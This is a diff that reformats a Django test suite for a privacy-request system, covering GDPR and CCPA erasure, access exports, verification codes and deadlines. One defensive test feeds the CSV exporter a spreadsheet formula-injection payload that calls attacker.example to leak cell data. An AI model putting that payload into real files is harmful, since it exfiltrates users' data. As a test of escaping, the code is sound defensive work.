@@ -26,7 +26,6 @@ from privacy import crypto, requests, services
 from privacy.models import ConsentRecord, Conversation, DataSubject, ErasureReceipt, SubjectKey
 from privacy.models import SubjectRequest as SR
 from privacy.request_tasks import execute_subject_request, resume_stalled_subject_requests
-from tests.browser import browser, page  # noqa: F401  (fixtures)
 
 EMAIL = "Jane.Subject@example.org"
 USER = "user-42"
@@ -47,14 +46,21 @@ def _fresh_rate_limits():
 def subject(principals) -> DataSubject:
     """A subject of tenant A with a registered email, consent and two stored conversations."""
     tenant = principals.tenant_a
-    subject = services.subject_register_email(actor="app", tenant=tenant, external_id=USER,
-                                              email=EMAIL)
-    services.consent_set(actor="app", subject=subject, purpose="store_conversations",
-                         granted=True, source="api")
+    subject = services.subject_register_email(
+        actor="app", tenant=tenant, external_id=USER, email=EMAIL
+    )
+    services.consent_set(
+        actor="app", subject=subject, purpose="store_conversations", granted=True, source="api"
+    )
     for n in range(2):
-        services.conversation_store(tenant=tenant, external_id=USER, alias="chat",
-                                    request_id=f"r{n}", prompt=f"question {n}",
-                                    response=f"answer {n}")
+        services.conversation_store(
+            tenant=tenant,
+            external_id=USER,
+            alias="chat",
+            request_id=f"r{n}",
+            prompt=f"question {n}",
+            response=f"answer {n}",
+        )
     assert Conversation.objects.filter(subject=subject).count() == 2
     subject.refresh_from_db()
     return subject
@@ -66,8 +72,9 @@ def cached_entry(principals):
     from gateway import cache
     from gateway.providers.base import Usage
 
-    key = cache.CacheKey(tenant_id=principals.tenant_a.pk, alias="chat", digest="d" * 64,
-                         subject=USER)
+    key = cache.CacheKey(
+        tenant_id=principals.tenant_a.pk, alias="chat", digest="d" * 64, subject=USER
+    )
     answer = cache.CachedAnswer("cached answer", "stop", Usage(1, 1), "dep", "v1", True)
     store = cache.response_cache()
     namespace = asyncio.run(store.lookup(key))[0]
@@ -84,8 +91,13 @@ def _public_request(principals, *, kind=SR.Kind.ERASURE, law=SR.Law.GDPR, email=
     # Emails go out when the transaction commits.
     with TestCase.captureOnCommitCallbacks(execute=True):
         request = requests.subject_request_create(
-            tenant=principals.tenant_a, kind=kind, law=law, source=SR.Source.PUBLIC_PAGE,
-            email=email, actor="public_page")
+            tenant=principals.tenant_a,
+            kind=kind,
+            law=law,
+            source=SR.Source.PUBLIC_PAGE,
+            email=email,
+            actor="public_page",
+        )
     request.refresh_from_db()  # the worker's task stored the code's hash
     return request
 
@@ -93,8 +105,10 @@ def _public_request(principals, *, kind=SR.Kind.ERASURE, law=SR.Law.GDPR, email=
 def _verified(principals, subject, **kwargs) -> SR:
     mail.outbox.clear()
     request = _public_request(principals, **kwargs)
-    assert requests.subject_request_verify(request=request, code=_code(mail.outbox[-1])) \
+    assert (
+        requests.subject_request_verify(request=request, code=_code(mail.outbox[-1]))
         is requests.VerifyResult.VERIFIED
+    )
     return request
 
 
@@ -107,8 +121,8 @@ def _approve(request: SR, actor, django_capture_on_commit_callbacks) -> SR:
 
 # --- Identity ------------------------------------------------------------------------------
 
-def test_a_public_request_waits_for_the_code_emailed_to_the_registered_address(principals,
-                                                                              subject):
+
+def test_a_public_request_waits_for_the_code_emailed_to_the_registered_address(principals, subject):
     request = _public_request(principals)
     assert request.state == State.RECEIVED and request.subject == subject
     assert len(mail.outbox) == 1
@@ -123,8 +137,9 @@ def test_the_right_code_verifies_and_the_subject_gets_an_acknowledgement(princip
     with time_machine.travel(datetime(2027, 1, 1, 9, tzinfo=UTC), tick=False):
         request = _public_request(principals, law=SR.Law.CCPA)
         with TestCase.captureOnCommitCallbacks(execute=True):
-            result = requests.subject_request_verify(request=request,
-                                                     code=f" {_code(mail.outbox[-1])} ")
+            result = requests.subject_request_verify(
+                request=request, code=f" {_code(mail.outbox[-1])} "
+            )
     assert result is requests.VerifyResult.VERIFIED
     assert request.state == State.VERIFIED and request.code_hash == ""
     assert mail.outbox[-1].to == [EMAIL] and "answer by 2027-02-15" in mail.outbox[-1].body
@@ -149,16 +164,24 @@ def test_wrong_codes_are_limited_and_then_the_request_is_closed(principals, subj
     request = _public_request(principals)
     right = _code(mail.outbox[-1])
     wrong = f"{(int(right) + 1) % 10**6:06d}"
-    results = [requests.subject_request_verify(request=request, code=wrong)
-               for _ in range(requests.MAX_CODE_ATTEMPTS)]
+    results = [
+        requests.subject_request_verify(request=request, code=wrong)
+        for _ in range(requests.MAX_CODE_ATTEMPTS)
+    ]
     assert results[:-1] == [requests.VerifyResult.WRONG] * (requests.MAX_CODE_ATTEMPTS - 1)
     assert results[-1] is requests.VerifyResult.LOCKED
-    assert requests.subject_request_verify(request=request, code=right) \
+    assert (
+        requests.subject_request_verify(request=request, code=right)
         is requests.VerifyResult.NOT_PENDING
+    )
     request.refresh_from_db()
     assert request.state == State.REJECTED and request.verified_at is None
-    assert AuditEvent.objects.filter(action="subject_request.verify_failed",
-                                     object_id=str(request.pk)).count() == 5
+    assert (
+        AuditEvent.objects.filter(
+            action="subject_request.verify_failed", object_id=str(request.pk)
+        ).count()
+        == 5
+    )
 
 
 def test_an_expired_code_is_refused(principals, subject):
@@ -166,8 +189,10 @@ def test_an_expired_code_is_refused(principals, subject):
         request = _public_request(principals)
         code = _code(mail.outbox[-1])
         clock.shift(requests.CODE_LIFETIME + timedelta(seconds=1))
-        assert requests.subject_request_verify(request=request, code=code) \
+        assert (
+            requests.subject_request_verify(request=request, code=code)
             is requests.VerifyResult.WRONG
+        )
 
 
 def test_a_request_for_an_unknown_email_sends_nothing_and_never_verifies(principals, subject):
@@ -176,12 +201,15 @@ def test_a_request_for_an_unknown_email_sends_nothing_and_never_verifies(princip
     assert mail.outbox == []
     # Whatever code is tried (even a lucky guess of the unsent one) it stays unverified.
     for code in ("000000", "123456"):
-        assert requests.subject_request_verify(request=request, code=code) \
+        assert (
+            requests.subject_request_verify(request=request, code=code)
             is requests.VerifyResult.WRONG
+        )
 
 
 def test_the_page_does_the_same_work_for_registered_and_unknown_emails_and_mails_off_it(
-        client, principals, subject, monkeypatch):
+    client, principals, subject, monkeypatch
+):
     """No timing oracle: the POST neither decrypts nor mails; both branches queue one task."""
     from django.db import connection
     from django.test.utils import CaptureQueriesContext
@@ -192,10 +220,14 @@ def test_the_page_does_the_same_work_for_registered_and_unknown_emails_and_mails
     monkeypatch.setattr(request_tasks.send_request_code, "delay", queued.append)
 
     def submit(email: str) -> tuple[int, list[str]]:
-        with CaptureQueriesContext(connection) as queries, \
-                TestCase.captureOnCommitCallbacks(execute=True):
-            response = client.post(reverse("privacy:request"), {
-                "tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": email})
+        with (
+            CaptureQueriesContext(connection) as queries,
+            TestCase.captureOnCommitCallbacks(execute=True),
+        ):
+            response = client.post(
+                reverse("privacy:request"),
+                {"tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": email},
+            )
         assert response.status_code == 302
         return len(queued), [q["sql"].split(" ")[0] for q in queries.captured_queries]
 
@@ -211,13 +243,14 @@ def test_the_page_does_the_same_work_for_registered_and_unknown_emails_and_mails
     assert [m.to for m in mail.outbox] == [[EMAIL]]
 
 
-def test_the_page_answers_the_same_for_registered_and_unknown_emails(client, principals,
-                                                                     subject):
+def test_the_page_answers_the_same_for_registered_and_unknown_emails(client, principals, subject):
     def submit(email: str) -> str:
         with TestCase.captureOnCommitCallbacks(execute=True):
-            response = client.post(reverse("privacy:request"), {
-                "tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": email},
-                follow=True)
+            response = client.post(
+                reverse("privacy:request"),
+                {"tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": email},
+                follow=True,
+            )
         assert response.status_code == 200
         path = response.redirect_chain[-1][0]
         return response.content.decode().replace(path, "")
@@ -254,22 +287,30 @@ def test_the_public_form_needs_a_csrf_token(principals):
     from django.test import Client
 
     strict = Client(enforce_csrf_checks=True)
-    response = strict.post(reverse("privacy:request"), {
-        "tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": EMAIL})
+    response = strict.post(
+        reverse("privacy:request"),
+        {"tenant": "tenant-a", "kind": "erasure", "law": "gdpr", "email": EMAIL},
+    )
     assert response.status_code == 403
     assert not SR.objects.exists()
 
 
 def test_a_request_from_the_tenants_app_counts_as_verified(principals, subject):
     request = requests.subject_request_create(
-        tenant=principals.tenant_a, kind=SR.Kind.ACCESS, law=SR.Law.GDPR,
-        source=SR.Source.API, external_id=USER, actor="api-key:a")
+        tenant=principals.tenant_a,
+        kind=SR.Kind.ACCESS,
+        law=SR.Law.GDPR,
+        source=SR.Source.API,
+        external_id=USER,
+        actor="api-key:a",
+    )
     assert request.state == State.VERIFIED and request.verified_at
     assert request.subject == subject
     assert mail.outbox == []
 
 
 # --- Deadlines and officers' decisions ------------------------------------------------------
+
 
 def test_gdpr_requests_are_due_one_calendar_month_after_receipt(principals, subject):
     with time_machine.travel(datetime(2027, 1, 31, 9, tzinfo=UTC), tick=False):
@@ -280,8 +321,7 @@ def test_gdpr_requests_are_due_one_calendar_month_after_receipt(principals, subj
         assert _public_request(principals).due_at == datetime(2027, 6, 10, 9, tzinfo=UTC)
 
 
-def test_ccpa_requests_are_due_in_45_days_and_acknowledged_in_10_business_days(principals,
-                                                                               subject):
+def test_ccpa_requests_are_due_in_45_days_and_acknowledged_in_10_business_days(principals, subject):
     # Friday 1 January 2027: ten weekdays later is Friday 15 January.
     with time_machine.travel(datetime(2027, 1, 1, 9, tzinfo=UTC), tick=False):
         request = _public_request(principals, law=SR.Law.CCPA)
@@ -289,8 +329,7 @@ def test_ccpa_requests_are_due_in_45_days_and_acknowledged_in_10_business_days(p
     assert request.acknowledge_by == datetime(2027, 1, 15, 9, tzinfo=UTC)
 
 
-def test_a_gdpr_deadline_is_extended_once_by_at_most_two_months_with_a_reason(principals,
-                                                                              subject):
+def test_a_gdpr_deadline_is_extended_once_by_at_most_two_months_with_a_reason(principals, subject):
     with time_machine.travel(datetime(2027, 1, 10, 9, tzinfo=UTC), tick=False) as clock:
         request = _verified(principals, subject)
         for bad in ({"reason": ""}, {"reason": "complex", "months": 3}):
@@ -298,13 +337,13 @@ def test_a_gdpr_deadline_is_extended_once_by_at_most_two_months_with_a_reason(pr
                 requests.subject_request_extend(actor=principals.alice, request=request, **bad)
         clock.shift(timedelta(days=20))
         mail.outbox.clear()
-        requests.subject_request_extend(actor=principals.alice, request=request,
-                                        reason="many systems to search")
+        requests.subject_request_extend(
+            actor=principals.alice, request=request, reason="many systems to search"
+        )
         assert request.extended_due_at == datetime(2027, 4, 10, 9, tzinfo=UTC)
         assert request.extension_reason == "many systems to search"
         with pytest.raises(requests.SubjectRequestError, match="only once"):
-            requests.subject_request_extend(actor=principals.alice, request=request,
-                                            reason="again")
+            requests.subject_request_extend(actor=principals.alice, request=request, reason="again")
     assert requests.effective_due(request) == request.extended_due_at
     event = AuditEvent.objects.get(action="subject_request.extend")
     assert event.after["reason"] == "many systems to search"
@@ -315,20 +354,24 @@ def test_ccpa_requests_and_late_extensions_are_refused(principals, subject):
     with pytest.raises(requests.SubjectRequestError, match="only GDPR"):
         requests.subject_request_extend(actor=principals.alice, request=ccpa, reason="x")
     gdpr = _verified(principals, subject)
-    with time_machine.travel(gdpr.due_at + timedelta(minutes=1), tick=False), \
-            pytest.raises(requests.SubjectRequestError, match="before the deadline"):
+    with (
+        time_machine.travel(gdpr.due_at + timedelta(minutes=1), tick=False),
+        pytest.raises(requests.SubjectRequestError, match="before the deadline"),
+    ):
         requests.subject_request_extend(actor=principals.alice, request=gdpr, reason="x")
 
 
-def test_a_rejection_needs_a_reason_and_tells_the_subject(principals, subject,
-                                                         django_capture_on_commit_callbacks):
+def test_a_rejection_needs_a_reason_and_tells_the_subject(
+    principals, subject, django_capture_on_commit_callbacks
+):
     request = _verified(principals, subject)
     with pytest.raises(requests.SubjectRequestError):
         requests.subject_request_reject(actor=principals.alice, request=request, reason=" ")
     mail.outbox.clear()
     with django_capture_on_commit_callbacks(execute=True):
-        requests.subject_request_reject(actor=principals.alice, request=request,
-                                        reason="legal hold on these records")
+        requests.subject_request_reject(
+            actor=principals.alice, request=request, reason="legal hold on these records"
+        )
     assert request.state == State.REJECTED and request.decided_by == "user:alice"
     assert mail.outbox[0].to == [EMAIL]
     assert "legal hold on these records" in mail.outbox[0].body
@@ -338,8 +381,10 @@ def test_a_rejection_needs_a_reason_and_tells_the_subject(principals, subject,
 
 # --- Execution ------------------------------------------------------------------------------
 
+
 def test_erasure_removes_records_key_and_cache_entries_and_leaves_a_receipt(
-        principals, subject, cached_entry, django_capture_on_commit_callbacks):
+    principals, subject, cached_entry, django_capture_on_commit_callbacks
+):
     from gateway import cache
 
     request = _verified(principals, subject)
@@ -351,35 +396,48 @@ def test_erasure_removes_records_key_and_cache_entries_and_leaves_a_receipt(
     assert not Conversation.objects.filter(subject=subject).exists()
     assert SubjectKey.objects.get(subject=subject).destroyed_at is not None
     with pytest.raises(crypto.KeyDestroyed):
-        crypto.decrypt(subject, conversation.prompt_ciphertext,
-                       aad=crypto.record_aad(subject, "prompt"))
+        crypto.decrypt(
+            subject, conversation.prompt_ciphertext, aad=crypto.record_aad(subject, "prompt")
+        )
     assert asyncio.run(cache.response_cache().lookup(cached_entry))[1] is None
     assert datamap.find_all(principals.tenant_a.pk, USER)["privacy.conversations"] == []
 
     receipt = ErasureReceipt.objects.get(request=request)
-    assert receipt.counts == {"gateway.response_cache": 1, "gateway.security_events": 0,
-                              "privacy.conversations": 2,
-                              "privacy.subject": 1}
+    assert receipt.counts == {
+        "gateway.response_cache": 1,
+        "gateway.security_events": 0,
+        "privacy.conversations": 2,
+        "privacy.subject": 1,
+    }
     assert receipt.subject_ref == requests.subject_ref(principals.tenant_a.pk, USER)
     stored = json.dumps([receipt.counts, receipt.subject_ref, str(receipt)])
     assert USER not in stored and EMAIL.lower() not in stored.lower()
     assert receipt.started_at <= receipt.finished_at
 
     assert mail.outbox[-1].to == [EMAIL] and "erasure request is complete" in mail.outbox[-1].body
-    actions = list(AuditEvent.objects.filter(object_type="privacy.SubjectRequest",
-                                             object_id=str(request.pk))
-                   .order_by("id").values_list("action", flat=True))
-    assert actions == ["subject_request.create", "subject_request.code_issued",
-                       "subject_request.verify", "subject_request.approve",
-                       "subject_request.start", "subject_request.complete"]
+    actions = list(
+        AuditEvent.objects.filter(object_type="privacy.SubjectRequest", object_id=str(request.pk))
+        .order_by("id")
+        .values_list("action", flat=True)
+    )
+    assert actions == [
+        "subject_request.create",
+        "subject_request.code_issued",
+        "subject_request.verify",
+        "subject_request.approve",
+        "subject_request.start",
+        "subject_request.complete",
+    ]
     audit_text = json.dumps(list(AuditEvent.objects.values("object_repr", "before", "after")))
     assert EMAIL.lower() not in audit_text.lower()
 
 
-def test_executing_twice_does_not_run_twice(principals, subject,
-                                            django_capture_on_commit_callbacks):
-    request = _approve(_verified(principals, subject), principals.alice,
-                       django_capture_on_commit_callbacks)
+def test_executing_twice_does_not_run_twice(
+    principals, subject, django_capture_on_commit_callbacks
+):
+    request = _approve(
+        _verified(principals, subject), principals.alice, django_capture_on_commit_callbacks
+    )
     counts = ErasureReceipt.objects.get(request=request).counts
     assert execute_subject_request.delay(request.pk).get() == State.COMPLETED
     assert requests.subject_request_execute(request.pk).ran is False
@@ -387,8 +445,10 @@ def test_executing_twice_does_not_run_twice(principals, subject,
     assert request.attempts == 1
     assert ErasureReceipt.objects.filter(request=request).count() == 1
     assert ErasureReceipt.objects.get(request=request).counts == counts
-    assert AuditEvent.objects.filter(action="subject_request.start",
-                                     object_id=str(request.pk)).count() == 1
+    assert (
+        AuditEvent.objects.filter(action="subject_request.start", object_id=str(request.pk)).count()
+        == 1
+    )
 
 
 def test_a_request_stuck_in_progress_is_resumed(principals, subject, settings):
@@ -407,16 +467,21 @@ def test_a_request_stuck_in_progress_is_resumed(principals, subject, settings):
 
 
 def test_a_failed_erasure_keeps_no_personal_data_in_the_error_and_is_retried(
-        principals, subject, django_capture_on_commit_callbacks, monkeypatch):
+    principals, subject, django_capture_on_commit_callbacks, monkeypatch
+):
     holder = next(h for h in datamap.holders() if h.name == "privacy.subject")
 
     def broken(tenant_id, external_id):
         raise RuntimeError(f"cannot erase {external_id} <{EMAIL}>")
 
-    monkeypatch.setitem(datamap._holders, holder.name,
-                        datamap.DataHolder(holder.name, holder.description, holder.find, broken))
-    request = _approve(_verified(principals, subject), principals.alice,
-                       django_capture_on_commit_callbacks)
+    monkeypatch.setitem(
+        datamap._holders,
+        holder.name,
+        datamap.DataHolder(holder.name, holder.description, holder.find, broken),
+    )
+    request = _approve(
+        _verified(principals, subject), principals.alice, django_capture_on_commit_callbacks
+    )
     assert request.state == State.FAILED
     assert request.last_error == "erasure: RuntimeError"
     # All or nothing: the conversations deleted before the failure are back.
@@ -431,14 +496,15 @@ def test_a_failed_erasure_keeps_no_personal_data_in_the_error_and_is_retried(
 
 
 def test_an_access_request_yields_an_export_downloadable_once(
-        client, principals, subject, django_capture_on_commit_callbacks):
+    client, principals, subject, django_capture_on_commit_callbacks
+):
     request = _verified(principals, subject, kind=SR.Kind.ACCESS)
     mail.outbox.clear()
     request = _approve(request, principals.alice, django_capture_on_commit_callbacks)
     assert request.state == State.COMPLETED and request.export_ciphertext
     assert b"question 0" not in bytes(request.export_ciphertext)  # encrypted
     link = re.search(r"https?://\S+/privacy/export/\S+/", mail.outbox[-1].body).group(0)
-    path = link[link.index("/privacy/"):]
+    path = link[link.index("/privacy/") :]
 
     assert client.get(path).status_code == 200  # a look does not use the link up
     response = client.post(path, {"format": "zip"})
@@ -450,8 +516,10 @@ def test_an_access_request_yields_an_export_downloadable_once(
     prompts = [c["prompt"] for c in document["data"]["privacy.conversations"]]
     assert prompts == ["question 0", "question 1"]
     assert document["data"]["privacy.subject"]["email"] == EMAIL
-    assert document["data"]["privacy.subject"]["consent_history"][0]["purpose"] \
+    assert (
+        document["data"]["privacy.subject"]["consent_history"][0]["purpose"]
         == "store_conversations"
+    )
     assert "question 1" in archive.read("export.csv").decode()
 
     again = client.post(path, {"format": "json"})
@@ -462,10 +530,14 @@ def test_an_access_request_yields_an_export_downloadable_once(
 
 
 def test_an_export_in_csv_and_expired_or_forged_links_are_refused(
-        client, principals, subject, django_capture_on_commit_callbacks, settings):
+    client, principals, subject, django_capture_on_commit_callbacks, settings
+):
     start = datetime.now(UTC)
-    request = _approve(_verified(principals, subject, kind=SR.Kind.ACCESS), principals.alice,
-                       django_capture_on_commit_callbacks)
+    request = _approve(
+        _verified(principals, subject, kind=SR.Kind.ACCESS),
+        principals.alice,
+        django_capture_on_commit_callbacks,
+    )
     path = reverse("privacy:export-download", args=[requests.export_token(request)])
     assert client.post(path[:-1] + "x/", {"format": "csv"}).status_code == 410
     later = start + timedelta(days=settings.LLMP_PRIVACY_EXPORT_LINK_DAYS, hours=1)
@@ -476,18 +548,26 @@ def test_an_export_in_csv_and_expired_or_forged_links_are_refused(
     request.refresh_from_db()
     assert request.export_ciphertext is None
 
-    fresh = _approve(_verified(principals, subject, kind=SR.Kind.ACCESS), principals.alice,
-                     django_capture_on_commit_callbacks)
+    fresh = _approve(
+        _verified(principals, subject, kind=SR.Kind.ACCESS),
+        principals.alice,
+        django_capture_on_commit_callbacks,
+    )
     response = client.post(
-        reverse("privacy:export-download", args=[requests.export_token(fresh)]) + "?format=csv")
+        reverse("privacy:export-download", args=[requests.export_token(fresh)]) + "?format=csv"
+    )
     assert response.status_code == 200 and response["Content-Type"] == "text/csv"
     assert response.content.decode().splitlines()[0] == "section,field,value"
 
 
-def test_an_opt_out_withdraws_sale_and_sharing(principals, subject,
-                                               django_capture_on_commit_callbacks):
-    request = _approve(_verified(principals, subject, kind=SR.Kind.OPT_OUT, law=SR.Law.CCPA),
-                       principals.alice, django_capture_on_commit_callbacks)
+def test_an_opt_out_withdraws_sale_and_sharing(
+    principals, subject, django_capture_on_commit_callbacks
+):
+    request = _approve(
+        _verified(principals, subject, kind=SR.Kind.OPT_OUT, law=SR.Law.CCPA),
+        principals.alice,
+        django_capture_on_commit_callbacks,
+    )
     assert request.state == State.COMPLETED
     subject.refresh_from_db()
     assert subject.do_not_sell is True
@@ -497,8 +577,12 @@ def test_an_opt_out_withdraws_sale_and_sharing(principals, subject,
 
 def test_public_requests_never_verified_are_closed(principals, subject):
     request = _public_request(principals)
-    later = datetime.now(UTC) + requests.CODE_LIFETIME + requests.UNVERIFIED_GRACE \
+    later = (
+        datetime.now(UTC)
+        + requests.CODE_LIFETIME
+        + requests.UNVERIFIED_GRACE
         + timedelta(minutes=1)
+    )
     with time_machine.travel(later):
         assert resume_stalled_subject_requests()["closed_unverified"] == 1
     request.refresh_from_db()
@@ -506,6 +590,7 @@ def test_public_requests_never_verified_are_closed(principals, subject):
 
 
 # --- Admin ----------------------------------------------------------------------------------
+
 
 def test_officers_filter_overdue_and_due_soon_requests(admin_client, principals, subject):
     with time_machine.travel(datetime.now(UTC) - timedelta(days=40)):
@@ -532,13 +617,15 @@ def test_officers_filter_overdue_and_due_soon_requests(admin_client, principals,
 
 
 def test_officers_approve_only_verified_requests_and_reject_with_a_reason(
-        admin_client, principals, subject, django_capture_on_commit_callbacks):
+    admin_client, principals, subject, django_capture_on_commit_callbacks
+):
     unverified = _public_request(principals)
     verified = _verified(principals, subject, kind=SR.Kind.OPT_OUT)
     url = reverse("admin:privacy_subjectrequest_changelist")
     with django_capture_on_commit_callbacks(execute=True):
-        admin_client.post(url, {"action": "approve",
-                                "_selected_action": [unverified.pk, verified.pk]})
+        admin_client.post(
+            url, {"action": "approve", "_selected_action": [unverified.pk, verified.pk]}
+        )
     unverified.refresh_from_db()
     verified.refresh_from_db()
     assert unverified.state == State.RECEIVED
@@ -547,14 +634,29 @@ def test_officers_approve_only_verified_requests_and_reject_with_a_reason(
     other = _verified(principals, subject)
     form = admin_client.post(url, {"action": "reject", "_selected_action": [other.pk]})
     assert form.status_code == 200 and b"reason" in form.content
-    admin_client.post(url, {"action": "reject", "_selected_action": [other.pk], "apply": "1",
-                            "reason": "manifestly unfounded"})
+    admin_client.post(
+        url,
+        {
+            "action": "reject",
+            "_selected_action": [other.pk],
+            "apply": "1",
+            "reason": "manifestly unfounded",
+        },
+    )
     other.refresh_from_db()
     assert other.state == State.REJECTED and other.rejection_reason == "manifestly unfounded"
 
     extend = _verified(principals, subject)
-    admin_client.post(url, {"action": "extend", "_selected_action": [extend.pk], "apply": "1",
-                            "reason": "complex", "months": "2"})
+    admin_client.post(
+        url,
+        {
+            "action": "extend",
+            "_selected_action": [extend.pk],
+            "apply": "1",
+            "reason": "complex",
+            "months": "2",
+        },
+    )
     extend.refresh_from_db()
     assert extend.extended_due_at is not None
     detail = admin_client.get(reverse("admin:privacy_subjectrequest_change", args=[extend.pk]))
@@ -563,9 +665,11 @@ def test_officers_approve_only_verified_requests_and_reject_with_a_reason(
 
 # --- The whole flow in a real browser -------------------------------------------------------
 
+
 @pytest.mark.django_db(transaction=True)
 def test_an_erasure_from_the_public_page_leaves_nothing_readable(
-        live_server, principals, subject, cached_entry, page):  # noqa: F811
+    live_server, principals, subject, cached_entry, page
+):
     conversation = Conversation.objects.filter(subject=subject).first()
     page.goto(f"{live_server.url}/privacy/request/")
     page.fill("input[name=tenant]", "tenant-a")
@@ -590,14 +694,18 @@ def test_an_erasure_from_the_public_page_leaves_nothing_readable(
     assert not Conversation.objects.filter(subject=subject).exists()
     assert SubjectKey.objects.get(subject=subject).destroyed_at is not None
     with pytest.raises(crypto.KeyDestroyed):
-        crypto.decrypt(subject, conversation.response_ciphertext,
-                       aad=crypto.record_aad(subject, "response"))
+        crypto.decrypt(
+            subject, conversation.response_ciphertext, aad=crypto.record_aad(subject, "response")
+        )
     subject.refresh_from_db()
     assert subject.email_ciphertext is None and USER not in subject.external_id
     receipt = ErasureReceipt.objects.get(request=request)
-    assert receipt.counts == {"gateway.response_cache": 1, "gateway.security_events": 0,
-                              "privacy.conversations": 2,
-                              "privacy.subject": 1}
+    assert receipt.counts == {
+        "gateway.response_cache": 1,
+        "gateway.security_events": 0,
+        "privacy.conversations": 2,
+        "privacy.subject": 1,
+    }
     assert USER not in json.dumps(receipt.counts) + receipt.subject_ref
     assert "erasure request is complete" in mail.outbox[-1].body
 
@@ -606,10 +714,18 @@ def test_the_csv_export_never_hands_a_spreadsheet_a_formula():
     import csv
     import io
 
-    document = {"conversations": [{"prompt": '=HYPERLINK("https://attacker.example/?"&A1,"x")',
-                                   "response": "+1 and -1 and @SUM(A1)", "note": " =1+1",
-                                   "tokens": -3, "plain": "hello = world"}],
-                "@section": {"-field": "\tcmd"}}
+    document = {
+        "conversations": [
+            {
+                "prompt": '=HYPERLINK("https://attacker.example/?"&A1,"x")',
+                "response": "+1 and -1 and @SUM(A1)",
+                "note": " =1+1",
+                "tokens": -3,
+                "plain": "hello = world",
+            }
+        ],
+        "@section": {"-field": "\tcmd"},
+    }
     rows = list(csv.reader(io.StringIO(requests.export_csv(document))))
     cells = [cell for row in rows[1:] for cell in row]
 
@@ -625,15 +741,19 @@ def test_the_csv_export_never_hands_a_spreadsheet_a_formula():
 def test_the_page_does_not_tell_whether_an_organisation_exists(client, principals, subject):
     def submit(tenant: str) -> tuple[str, str]:
         with TestCase.captureOnCommitCallbacks(execute=True):
-            response = client.post(reverse("privacy:request"), {
-                "tenant": tenant, "kind": "erasure", "law": "gdpr",
-                "email": "nobody@example.org"}, follow=True)
+            response = client.post(
+                reverse("privacy:request"),
+                {"tenant": tenant, "kind": "erasure", "law": "gdpr", "email": "nobody@example.org"},
+                follow=True,
+            )
         assert response.status_code == 200
         path = response.redirect_chain[-1][0]
         wrong = client.post(path, {"code": "123456"})
         strip = re.compile(r'name="csrfmiddlewaretoken" value="[^"]+"')
-        return (strip.sub("", response.content.decode().replace(path, "")),
-                strip.sub("", wrong.content.decode().replace(path, "")))
+        return (
+            strip.sub("", response.content.decode().replace(path, "")),
+            strip.sub("", wrong.content.decode().replace(path, "")),
+        )
 
     real, invented = submit("tenant-a"), submit("no-such-org")
     assert real == invented
